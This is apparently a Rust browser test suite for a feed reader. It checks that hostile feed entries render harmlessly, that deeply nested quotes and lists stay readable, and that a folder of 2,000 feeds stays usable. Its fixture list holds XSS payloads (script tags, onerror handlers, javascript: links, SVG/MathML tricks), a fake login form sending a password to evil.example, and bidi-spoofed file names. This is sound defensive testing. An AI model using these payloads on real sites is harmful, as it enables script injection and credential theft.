//! Entries that attack whoever reads them, or break a layout, stay harmless on the page; and so do very many feeds.

use reqwest::Method;
use serde_json::json;
use testkit::Page;

use crate::{
    browser::{Browser, DESK, PHONE, WIDTHS, with_browser},
    scene::{Scene, Store, escaped, item},
};

const MEGABYTE: usize = 1_000_000;
const PICTURES: usize = 5_000;
const FEEDS: usize = 2_000;

/// Elements of a page with [`FEEDS`] beside it: an item and its link for each.
const ELEMENTS_MAX: u64 = 5_000;

/// What entries try: scripts, handlers, styles that cover the page, forms, frames, and texts that break a layout.
fn attacks() -> Vec<(&'static str, String)> {
    let words = "word שלום ".repeat(20_000);
    let mut attacks: Vec<(&str, String)> = [
        ("script", "<script>document.title = 'owned'</script><svg onload=\"document.title='owned'\"></svg>"),
        ("handlers", "<img src=x onerror=\"document.title='owned'\"><body onload=alert(1)><a href='javascript:document.title=1'>x</a>"),
        ("cover", "<div style='position:fixed;inset:0;z-index:9999;background:red'>over</div><style>body{display:none}</style>"),
        ("closes", "</div></template></article></section></main><h1 id='main' class='row'>out</h1>"),
        ("form", "<form action='http://evil.example/'><input name=password autofocus><button>Log in</button></form>"),
        ("frame", "<iframe src='http://127.0.0.1:9/'></iframe><object data='x'></object><embed src='x'><base href='http://evil.example/'>"),
        ("classes", "<p class='status side dialog' id='status'>mine</p><p id='q'>mine</p>"),
        ("direction", "<p dir='rtl'>שלום \u{202e}abc\u{202c} مرحبا</p><p>Latin \u{2067}עברית\u{2069} Latin \u{202e}backwards</p>"),
        ("wide", "<pre>0123456789 0123456789 0123456789 0123456789 0123456789 0123456789 0123456789 0123456789 0123456789 012</pre><table><tr><td>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</td><td>bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb</td></tr></table><img src='http://127.0.0.1:9/w.png' width='9000' height='10'>"),
        ("mathematics", "<math><mtext><img src=x onerror=alert(1)></mtext></math><svg><style><img src=x onerror=alert(1)></style></svg>"),
    ]
    .map(|(title, html)| (title, html.to_owned()))
    .into();
    attacks.push(("a line of a megabyte", "x".repeat(MEGABYTE)));
    attacks.push(("words of both directions in one line", words));
    attacks.push(("pictures", "<img src='http://127.0.0.1:9/p.png' width='10' height='10'>".repeat(PICTURES)));
    attacks
}

/// Follows a feed with all of them, called as a script is; the ids of feed and entries.
async fn follow(scene: &Scene) -> (String, Vec<String>) {
    let mut items: String = attacks().iter().map(|(title, html)| item(title, html)).collect();
    items += &item(&"t".repeat(10_000), "a long title");
    items += &item(&"long title ".repeat(1_000), "a long title of words");
    items += &item("\u{202e}evil.exe <script>alert(1)</script> שלום", "<p>a title of both directions</p>");
    items += "<item><guid>n</guid><description>no title at all</description></item>";
    let url = scene.publish(&escaped("<script>document.title = 'owned'</script>"), "/hostile", &items);
    let feed = scene.call(Method::POST, "/api/feeds", json!({ "url": url })).await["id"].to_string();
    let entries = scene.get(&format!("/api/entries?feedId={feed}&content=false")).await;
    let ids: Vec<String> = entries["entries"].as_array().unwrap().iter().map(|entry| entry["id"].to_string()).collect();
    assert_eq!(ids.len(), attacks().len() + 4);
    (feed, ids)
}

#[tokio::test(flavor = "multi_thread")]
async fn u1b_hostile_entries_stay_harmless() {
    let scene = Scene::start(Store::Sqlite).await;
    let (feed, ids) = follow(&scene).await;
    with_browser("hostile", DESK, async |browser| {
        // As the server writes it.
        for id in &ids {
            scene.open(browser, &format!("/entry/{id}?in=/feed/{feed}")).await;
            harmless(browser).await;
            works(&scene, browser, id.parse().unwrap()).await;
        }
        // As the script shows it, one after the other.
        scene.open(browser, &format!("/feed/{feed}")).await;
        harmless(browser).await;
        browser.says(".row", "t").await;
        browser.press("jo").await;
        for id in &ids {
            browser.is_at(&format!("/entry/{id}")).await;
            browser.find("article .body").await;
            harmless(browser).await;
            browser.press("j").await;
        }
        browser.tells("That was the last one.").await;
        browser.assert_no_complaints().await;
    })
    .await;
}

/// Nothing was done, and the layout is whole at every width.
async fn harmless(browser: &Browser) {
    assert_ne!(browser.run("return document.title").await, "owned");
    for width in WIDTHS {
        browser.resize(width).await;
        browser.assert_fits().await;
    }
}

/// Its controls are on top, and work.
async fn works(scene: &Scene, browser: &Browser, id: i64) {
    for (width, is_starred) in [(PHONE, true), (DESK, false)] {
        browser.resize(width).await;
        browser.click("article [data-do=star]").await;
        scene.entry_is(browser, id, "isStarred", is_starred).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn u1b_deep_quotes_and_lists_keep_their_words_in_sight() {
    let scene = Scene::start(Store::Sqlite).await;
    let nested = |open: &str, close: &str| format!("{}<b>deep</b>{}", open.repeat(40), close.repeat(40));
    let html =
        nested("<blockquote>", "</blockquote>") + &nested("<ul><li>", "</li></ul>") + &nested("<dl><dd>", "</dd></dl>");
    let url = scene.publish("Thread", "/thread", &item("Re: Re: Re:", &html));
    scene.call(Method::POST, "/api/feeds", json!({ "url": url })).await;
    with_browser("nested", PHONE, async |browser| {
        scene.open(browser, &format!("/feed/{}", scene.feed_id("Thread").await)).await;
        browser.click(".row a").await;
        let root = "document.querySelector('article .body')?.shadowRoot";
        browser.holds(&format!("{root}?.querySelectorAll('b').length === 3")).await;
        let in_sight = format!(
            "[...{root}.querySelectorAll('b')].every((word) => word.getBoundingClientRect().width > 20 \
             && word.getBoundingClientRect().right < innerWidth)"
        );
        browser.holds(&in_sight).await;
        browser.assert_fits().await;
        browser.assert_no_complaints().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn u1_folder_of_two_thousand_feeds_can_be_used() {
    let scene = Scene::start(Store::Sqlite).await;
    scene.publisher.record(false);
    scene.publisher.set_fallback(|_| Page::status(503));
    let outlines: String = (0..FEEDS)
        .map(|number| {
            format!("<outline text='Feed {number:04}' xmlUrl='{}'/>", scene.publisher.url(&format!("/{number}")))
        })
        .collect();
    scene.import(&format!("<outline text='Many'>{outlines}</outline>")).await;
    with_browser("many-feeds", DESK, async |browser| {
        for width in [PHONE, DESK] {
            browser.resize(width).await;
            scene.open(browser, "/all").await;
            browser.assert_fits().await;
            let elements = browser.run("return document.querySelectorAll('*').length").await;
            assert!(elements.as_u64().unwrap() < ELEMENTS_MAX, "{elements} elements");
            super::by_mouse::show_side(browser).await;
            // The last of them, and what stands below them all.
            browser.click(".folder:nth-of-type(2) li:last-child a").await;
            browser.says("#list-title", "Feed 1999").await;
            super::by_mouse::show_side(browser).await;
            browser.click(".foot a[href='/settings']").await;
            browser.is_at("/settings").await;
            browser.assert_fits().await;
        }
        // Keys work as ever.
        scene.open(browser, "/all").await;
        browser.press("jo").await;
        browser.says("article .title", "Boats").await;
        browser.assert_no_complaints().await;
    })
    .await;
}
